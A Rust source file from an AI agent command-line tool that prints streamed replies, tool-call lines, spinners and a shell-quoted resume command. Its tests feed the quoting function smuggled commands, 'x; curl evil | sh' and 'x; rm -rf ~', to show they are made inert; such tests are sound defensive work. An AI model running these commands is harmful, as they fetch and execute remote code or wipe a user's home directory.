//! `--output-format text`: the reply on stdout as it streams, one line per
//! tool call on stderr, a spinner while the model thinks (on a terminal).

use std::collections::HashMap;
use std::io::{self, Write as _};

use super::out::{RunOutput, note, stderr_notice};
use crate::agent::{AgentEvent, Message, StopReason, StopRecord};
use crate::provider::TokenTotals;
use crate::provider::prices::{Prices, spent};
use crate::terminal::call_summary;
use crate::terminal::shell_word;
use crate::terminal::{self, one_line};
use crate::transcript::SessionWriter;

/// What the text output remembers between events.
#[derive(Debug, Default)]
pub(super) struct TextOutput {
    /// Per call id, joined with the result when the tool-results message
    /// arrives.
    calls: HashMap<String, RunningCall>,
    /// The current reply's text was printed as it streamed in (so the whole
    /// message must not be printed again), and whether it ended a line.
    streamed: Option<bool>,
    /// Shown on a terminal stderr while the model has not answered yet.
    spinner: Option<indicatif::ProgressBar>,
    /// A running tool's latest progress line, shown on a terminal stderr
    /// until the call ends.
    progress: Option<indicatif::ProgressBar>,
    /// Whether stderr is a terminal (no spinner otherwise).
    interactive: bool,
    /// The command that continues this run, around the session's id.
    resume: ResumeCommand,
    /// The line that opens the output (model, workspace, tools, session),
    /// until it is printed.
    header: Option<String>,
    /// When the current prompt's run started.
    started: Option<std::time::Instant>,
    /// Tokens in and out of the current prompt's replies.
    tokens: TokenTotals,
    /// What tokens cost, when the user said.
    prices: Option<Prices>,
}

/// `toolhost ... run --resume ID ... "..."` with everything that makes it
/// work when pasted in any directory, and the id left out until the
/// session has one.
#[derive(Debug, Clone, Default)]
pub(crate) struct ResumeCommand {
    /// Up to and including `--resume`.
    pub(crate) before_id: String,
    /// The flags after the id (`--script`, `--session-dir`), each with a
    /// leading space.
    pub(crate) after_id: String,
}

impl ResumeCommand {
    /// The command for session `id`; the id is quoted too, as a shipped
    /// session file may carry any text as its id.
    fn with_id(&self, id: &str) -> String {
        let default = format!("{} run --resume", super::program());
        let before = if self.before_id.is_empty() {
            &default
        } else {
            &self.before_id
        };
        format!("{before} {}{} \"...\"", shell_word(id), self.after_id)
    }
}

/// What the text output remembers of a call until its result arrives.
#[derive(Debug, Default)]
struct RunningCall {
    short_arguments: String,
    duration_ms: Option<u64>,
}

impl TextOutput {
    pub(super) fn new(resume: ResumeCommand, header: String, prices: Option<Prices>) -> Self {
        use std::io::IsTerminal as _;
        TextOutput {
            interactive: io::stderr().is_terminal(),
            resume,
            header: Some(header),
            prices,
            ..TextOutput::default()
        }
    }

    /// A whole reply on stdout, unless it streamed there already (then its
    /// line is ended).
    fn print_reply(&mut self, assistant: &crate::provider::AssistantMessage) {
        match self.streamed.take() {
            Some(ended_line) => {
                if !ended_line {
                    let _ = writeln!(io::stdout().lock());
                }
            }
            None => {
                let text = assistant.text();
                if !text.is_empty() {
                    let newline = if text.ends_with('\n') { "" } else { "\n" };
                    let _ = write!(
                        io::stdout().lock(),
                        "{}{newline}",
                        terminal::multiline(&text)
                    );
                }
            }
        }
    }

    /// A spinner from the start of a turn until the model's first text or
    /// its whole reply, so a slow model does not look like a hung program.
    fn update_spinner(&mut self, event: &AgentEvent) {
        match event {
            AgentEvent::TurnStart { .. } => {
                let spinner = indicatif::ProgressBar::new_spinner();
                spinner.set_draw_target(indicatif::ProgressDrawTarget::stderr());
                spinner.set_message("waiting for the model");
                spinner.enable_steady_tick(std::time::Duration::from_millis(100));
                self.spinner = Some(spinner);
            }
            AgentEvent::MessageDelta { .. }
            | AgentEvent::Message { .. }
            | AgentEvent::TurnEnd { .. }
            | AgentEvent::AgentEnd { .. } => {
                if let Some(spinner) = self.spinner.take() {
                    spinner.finish_and_clear();
                }
            }
            _ => {}
        }
        self.update_progress(event);
    }

    /// A running tool's latest progress line (a long command's output as it
    /// comes), replaced by the next and gone when the call ends.
    fn update_progress(&mut self, event: &AgentEvent) {
        match event {
            AgentEvent::ToolExecutionUpdate { tool, message, .. } => {
                let line = format!(
                    "{}: {}",
                    one_line(tool),
                    one_line(&terminal::short(terminal::last_line(message), 100))
                );
                let bar = self.progress.get_or_insert_with(|| {
                    let bar = indicatif::ProgressBar::new_spinner();
                    bar.set_draw_target(indicatif::ProgressDrawTarget::stderr());
                    bar.enable_steady_tick(std::time::Duration::from_millis(100));
                    bar
                });
                bar.set_message(line);
            }
            AgentEvent::ToolExecutionEnd { .. } | AgentEvent::AgentEnd { .. } => {
                if let Some(bar) = self.progress.take() {
                    bar.finish_and_clear();
                }
            }
            _ => {}
        }
    }
}

impl RunOutput for TextOutput {
    fn event(&mut self, event: &AgentEvent) {
        if self.interactive {
            self.update_spinner(event);
        }
        stderr_notice(event);
        if let Some(usage) = event.usage() {
            self.tokens.add(usage);
        }
        match event {
            AgentEvent::AgentStart => {
                if let Some(header) = self.header.take() {
                    note(header);
                }
                self.started = Some(std::time::Instant::now());
                self.tokens = TokenTotals::default();
            }
            AgentEvent::MessageDelta { text } => {
                let mut out = io::stdout().lock();
                let _ = write!(out, "{}", terminal::multiline(text)).and_then(|()| out.flush());
                self.streamed = Some(text.ends_with('\n'));
            }
            AgentEvent::Message {
                message: Message::Assistant(assistant),
            } => self.print_reply(assistant),
            AgentEvent::ToolExecutionStart {
                call_id, arguments, ..
            } => {
                let short_arguments = call_summary(arguments);
                self.calls.insert(
                    call_id.clone(),
                    RunningCall {
                        short_arguments,
                        duration_ms: None,
                    },
                );
            }
            AgentEvent::ToolExecutionEnd {
                call_id,
                duration_ms,
                ..
            } => {
                if let Some(entry) = self.calls.get_mut(call_id) {
                    entry.duration_ms = Some(*duration_ms);
                }
            }
            AgentEvent::Message {
                message: Message::ToolResults { results },
            } => {
                for result in results {
                    let RunningCall {
                        short_arguments: args,
                        duration_ms: duration,
                    } = self.calls.remove(&result.call_id).unwrap_or_default();
                    let status = if result.is_error { "error" } else { "ok" };
                    let timing = duration.map(|ms| format!(" {ms} ms")).unwrap_or_default();
                    // A call that never ran has no arguments to show.
                    let call = match args.is_empty() {
                        true => one_line(&result.tool).into_owned(),
                        false => format!("{} {}", one_line(&result.tool), one_line(&args)),
                    };
                    if !result.is_error {
                        note(format_args!(
                            "-> {call} {status}{timing} {} B",
                            result.text.len()
                        ));
                        continue;
                    }
                    // The whole error text, as the model read it: its first
                    // line on the tool's line (without the `error:` the
                    // line's status says already), the rest indented below.
                    let mut lines = result.text.lines();
                    let first = lines.next().unwrap_or_default();
                    note(format_args!(
                        "-> {call} {status}{timing}: {}",
                        one_line(first.strip_prefix("error: ").unwrap_or(first))
                    ));
                    for line in lines {
                        note(format_args!("   {}", one_line(line)));
                    }
                }
            }
            _ => {}
        }
    }

    /// Where the session was recorded, and why the run stopped unless it
    /// completed.
    fn finish(
        &mut self,
        _ledger: &[Message],
        stop: &StopRecord,
        session: Option<&SessionWriter>,
    ) -> io::Result<()> {
        // A reply cut off mid-line (Ctrl+C, a dropped stream) ends its line
        // on stdout, so neither the lines below nor the shell's prompt
        // continue it.
        if self.streamed.take() == Some(false) {
            let _ = writeln!(io::stdout().lock());
        }
        let seconds = self
            .started
            .take()
            .map_or(0.0, |started| started.elapsed().as_secs_f64());
        note(format_args!(
            "{} turn(s) · {} · {seconds:.1} s",
            stop.turns,
            spent(&self.tokens, self.prices.as_ref())
        ));
        if let Some(session) = session {
            note(format_args!(
                "session {} (continue it with `{}`)",
                one_line(session.id()),
                one_line(&self.resume.with_id(session.id()))
            ));
        }
        if stop.reason != StopReason::Completed {
            note(format_args!(
                "stopped: {} after {} turn(s): {}",
                stop.reason.as_str(),
                stop.turns,
                one_line(&stop.evidence)
            ));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_a_shell_reads_specially_is_quoted_whole() {
        assert_eq!(shell_word("/work/my-project"), "/work/my-project");
        assert_eq!(shell_word("write_file=out"), "write_file=out");
        assert_eq!(shell_word("my project"), "'my project'");
        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(shell_word("it's"), r"'it'\''s'");
        assert_eq!(shell_word("$HOME"), "'$HOME'");
        assert_eq!(shell_word(""), "''");
    }

    #[test]
    fn a_call_line_shows_where_it_acts_first() {
        let write =
            serde_json::json!({"content": "# Review\n".repeat(20), "path": "notes/review.md"});
        assert_eq!(
            call_summary(&write),
            r##"notes/review.md {"content":"# Review\n# Review\n# Review\n# Review\n# Review..."##
        );
        let search = serde_json::json!({"pattern": "fn main", "path": "src"});
        assert_eq!(call_summary(&search), r#"src {"pattern":"fn main"}"#);
        assert_eq!(call_summary(&serde_json::json!({})), "{}");
        assert_eq!(
            call_summary(&serde_json::json!({"path": 3})),
            r#"{"path":3}"#
        );
    }

    #[test]
    fn the_resume_command_quotes_a_shipped_id() {
        let resume = ResumeCommand {
            before_id: "toolhost --workspace /w run --resume".into(),
            after_id: " --script /w/s.json".into(),
        };
        assert_eq!(
            resume.with_id("20261202-050000-ab12"),
            "toolhost --workspace /w run --resume 20261202-050000-ab12 --script /w/s.json \"...\""
        );
        assert_eq!(
            resume.with_id("x; rm -rf ~"),
            "toolhost --workspace /w run --resume 'x; rm -rf ~' --script /w/s.json \"...\""
        );
    }
}
